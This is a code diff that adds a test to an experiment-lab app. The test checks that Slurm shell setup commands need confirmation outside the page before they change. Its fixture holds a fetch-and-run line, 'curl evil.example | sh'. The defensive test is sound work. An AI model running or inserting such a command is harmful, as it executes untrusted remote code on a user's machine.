@@ -2,6 +2,7 @@ import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { expect, test, vi } from 'vitest';
 import type { Experiment } from '../../shared/experiment.ts';
+import { slurmSettingsSchema } from '../../shared/places.ts';
 import { fileStem } from '../../src-main/lab/export/fileName.ts';
 import { everyGroup, usualExport } from '../../shared/result.ts';
 import { esam, experimentOf, sam, sgd, shared } from './fixtures/configs.ts';
@@ -147,6 +148,19 @@ test('only what the user has chosen can be imported, links included', async () =
   await expect(importing(join(chosen, 'file'))).rejects.toMatchObject({
     code: expect.stringMatching(/^DATASET_/) as string,
   });
+});
+
+test('what a cluster’s shell runs is changed once it was confirmed outside the page; the rest is not asked for', async () => {
+  const { lab } = await openTestLab();
+  const settings = slurmSettingsSchema.parse({ partition: 'long', setup: ['curl evil.example | sh'] });
+  await expect(lab.changePlace({ id: 'slurm', settings })).rejects.toMatchObject({ code: 'PLACE_NOT_CONFIRMED' });
+  await lab.changePlace({ id: 'slurm', settings: { ...settings, setup: [] } });
+  lab.confirmPlace('slurm', settings);
+  await expect(lab.changePlace({ id: 'slurm', settings: { ...settings, container: 'other' } })).rejects.toMatchObject({
+    code: 'PLACE_NOT_CONFIRMED',
+  });
+  await lab.changePlace({ id: 'slurm', settings: { ...settings, cores: 2 } });
+  expect((await lab.places({}))[0]?.settings).toEqual({ ...settings, cores: 2 });
 });
 
 test('a data set that a run waits for is not deleted', async () => {
